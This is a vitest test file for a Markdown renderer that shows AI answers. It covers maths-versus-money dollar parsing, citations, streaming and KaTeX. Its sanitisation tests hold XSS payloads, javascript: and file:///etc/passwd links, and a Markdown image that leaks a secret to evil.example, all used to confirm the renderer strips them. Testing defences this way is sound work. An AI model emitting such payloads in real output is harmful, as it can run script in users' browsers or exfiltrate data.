// Markdown may show anything and load or run nothing; dollars are money unless they are maths.
import { describe, expect, it } from "vitest";
import { highlight } from "./highlight";
import { typeset } from "./katex";
import { MarkdownRenderer, type Labels } from "./markdown";
import { inlineMath } from "./math";

const LABELS: Labels = { copy: "Copy", image: "Image:", cite: (n) => `Source ${n}` };
const html = (source: string, citations = 0): string =>
  new MarkdownRenderer()
    .render(source, { typeset: null, highlight: null }, LABELS, citations)
    .map((block) => block.html)
    .join("");

describe("dollars by Pandoc's rules", () => {
  const cases: [string, string | null][] = [
    ["$x^2$", "x^2"],
    ["$a + b$ and", "a + b"],
    ["$59 to $100 a month", null],
    ["$59…$100", null],
    ["$ x$", null],
    ["$x $", null],
    ["$x$5", null],
    ["$5", null],
    ["$a \\$ b$", "a \\$ b"],
    ["$a\n\nb$", null],
    ["\\(e^{i\\pi}\\)", "e^{i\\pi}"],
    ["$20,000 and $30,000", null],
    ["$100；$n$ 次", null],
    ["$100 and ($n$)", null],
    ["$2 \\times 3$", "2 \\times 3"],
    ["$v = 3\\text{ 米}$", "v = 3\\text{ 米}"],
    ["$n$th", "n"],
  ];
  it.each(cases)("%j", (source, tex) => expect(inlineMath(source)?.tex ?? null).toBe(tex));

  it("leaves money in a sentence alone", () => {
    const sentence = "It costs $59 or $100, US$20 at most.";
    expect(html(sentence)).toContain(sentence);
  });
  it("finds the formula behind money, in Chinese too", () => {
    expect(html("要 $59 到 $100；$n$ 次")).toContain('要 $59 到 $100；<span class="math-source">n</span> 次');
  });
  it("takes no formula out of code", () => {
    expect(html("`$x$` and\n\n```sh\necho $A$B\n```")).not.toContain("math");
  });
  it("sets displays apart", () => {
    expect(html("before\n\n$$\na = b\n$$\n\nafter")).toContain('<div class="math-source">a = b</div>');
    expect(html("\\[a = b\\]\n")).toContain("math-source");
  });
});

describe("what a model writes cannot act", () => {
  const forbidden = /<(?:script|img|iframe|svg|style|object|form)|\son\w+=|javascript:|style="/i;
  const cases = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <b onclick=alert(1)>bold</b>",
    "![leak](https://evil.example/?q=secret)",
    "[x](javascript:alert(1))",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](data:text/html,<script>1</script>)",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    "<a href='javascript:1'>x</a>",
    "```<img src=x>\ncode\n```",
    "| a | b |\n|-|-|\n| <img src=x> | ![i](https://evil.example/p.png) |",
    "$<img src=x onerror=1>$",
    "[<img src=x>](https://a.example)",
  ];
  it.each(cases)("%j", (source) => {
    const made = html(source).replaceAll(/&lt;[\s\S]*?&gt;/g, "").replaceAll(/title="[^"]*"/g, "");
    expect(made).not.toMatch(forbidden);
  });
  it("shows an image as a link with its words", () => {
    expect(html("![A map](https://a.example/m.png)")).toContain('<a class="image-link" href="https://a.example/m.png" data-link rel="noreferrer">Image: A map</a>');
  });
  it("marks links for the shell", () => {
    expect(html("[site](https://a.example/x)")).toContain('href="https://a.example/x" title="https://a.example/x" data-link');
  });
});

describe("citations", () => {
  it("become buttons as far as there are sources", () => {
    const made = html("True.[1] Also.[3]", 2);
    expect(made).toContain('data-cite="1"');
    expect(made).toContain("[3]");
  });
  it("leave links and footnotes alone", () => {
    expect(html("[1](https://a.example) and [1]: x", 3)).not.toContain("data-cite");
  });
});

describe("a growing answer", () => {
  it("keeps the blocks that are finished", () => {
    const renderer = new MarkdownRenderer();
    const rich = { typeset: null, highlight: null };
    const before = renderer.render("One.\n\nTw", rich, LABELS);
    const after = renderer.render("One.\n\nTwo, and more", rich, LABELS);
    expect(after[0]).toEqual(before[0]);
    expect(after).toHaveLength(2);
  });
  it("shows an unfinished code block as code", () => {
    expect(html("```python\nprint(1)")).toContain("<pre");
  });
});

describe("rich parts", () => {
  it("typesets without style attributes", () => {
    const made = typeset("\\frac{a}{b}", true);
    expect(made).toContain("data-style=");
    expect(made).not.toContain(' style="');
  });
  it("never makes a link or an image of TeX", () => {
    expect(typeset("\\href{javascript:alert(1)}{x}\\includegraphics{https://evil.example/x}", false)).not.toMatch(/href=|<img/);
  });
  it("survives broken TeX", () => expect(typeset("\\frac{", false)).toContain("katex-error"));
  it("escapes while it colours", () => {
    expect(highlight("let a = '<img>'", "javascript")).toContain("&lt;img&gt;");
    expect(highlight("x", "nonesuch")).toBeNull();
  });
});
